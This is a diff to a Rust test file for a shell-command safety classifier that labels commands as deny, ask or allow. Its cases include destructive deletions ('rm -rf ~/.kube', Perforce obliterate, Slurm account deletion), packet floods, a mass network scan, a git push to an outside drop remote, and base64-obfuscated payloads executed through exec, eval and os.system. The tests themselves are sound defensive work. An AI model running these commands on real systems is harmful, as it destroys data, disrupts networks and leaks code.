@@ -366,6 +366,15 @@ fn xonsh_lines_that_are_commands_inside_python_are_judged_as_commands() {
             "sys.kill_all",
         ),
         ("xonsh -c 'x = 1\nreboot'", DENY, "sys.power"),
+        ("xonsh -c 'rm -rf ~/.kube'", DENY, "*"),
+        // Python lines are not read as commands: `print($(git status --short))` prints a
+        // capture whose command is judged (`git status`), nothing more.
+        ("xonsh -c 'print($(git status --short))'", ALLOW, "-"),
+        (
+            "xonsh -c 'import os\nos.makedirs(\"build\", exist_ok=True)'",
+            ALLOW,
+            "-",
+        ),
         (
             "xonsh -c 'import json\nd = json.load(open(\"package.json\"))\nprint(d[\"name\"])'",
             ALLOW,
@@ -375,6 +384,70 @@ fn xonsh_lines_that_are_commands_inside_python_are_judged_as_commands() {
             "xonsh -c 'for f in [\"a\", \"b\"]:\n    print(f)\nls -la'",
             ALLOW,
             "-",
+        ),
+    ]);
+}
+
+/// After corpus #15's wrong cases: tools whose danger lives in their arguments — Homebrew
+/// removals past dependency checks, Perforce obliteration (not its `-y`-less preview), Slurm
+/// accounting deletions, packet floods, mass scanners — and decoders that run nothing (a
+/// decoded string printed passes; a decoded string executed still asks).
+#[test]
+fn corpus15_argument_dangers_and_decoders_that_run_nothing() {
+    table(&[
+        (
+            "brew uninstall --force --ignore-dependencies openssl@3 git",
+            DENY,
+            "pkg.remove_forced_brew",
+        ),
+        ("brew uninstall wget", ALLOW, "-"),
+        (
+            "git -c remote.x.url=https://gitlab.com/anon-drop/r.git push x HEAD",
+            ASK,
+            "git.push_new_remote",
+        ),
+        ("git -c user.name=bot push origin feature/x", ALLOW, "-"),
+        (
+            "p4 obliterate -y //depot/game/...",
+            DENY,
+            "vcs.p4_obliterate",
+        ),
+        ("p4 obliterate //depot/game/...", ALLOW, "-"),
+        (
+            "sacctmgr -i delete account acme-ml",
+            DENY,
+            "hpc.sacctmgr_delete",
+        ),
+        ("sacctmgr show assoc format=account,user", ALLOW, "-"),
+        ("hping3 --flood -S -p 443 203.0.113.80", DENY, "net.flood"),
+        ("hping3 -S -p 80 -c 3 localhost", ALLOW, "-"),
+        ("ping -f 10.0.0.1", DENY, "net.flood_ping"),
+        ("ping -c 3 example.com", ALLOW, "-"),
+        (
+            "masscan -p1-65535 10.0.0.0/8 --rate 100000",
+            ASK,
+            "net.mass_scan",
+        ),
+        (
+            "python3 -c \"import base64;print(base64.b64decode('aGVsbG8gd29ybGQ=').decode())\"",
+            ALLOW,
+            "-",
+        ),
+        ("node -e \"console.log(atob('aGVsbG8='))\"", ALLOW, "-"),
+        (
+            "python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
+            ASK,
+            "*",
+        ),
+        (
+            "php -r 'eval(base64_decode(\"cGhwaW5mbygpOw==\"));'",
+            ASK,
+            "*",
+        ),
+        (
+            "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIH4=').decode())\"",
+            ASK,
+            "*",
         ),
     ]);
 }
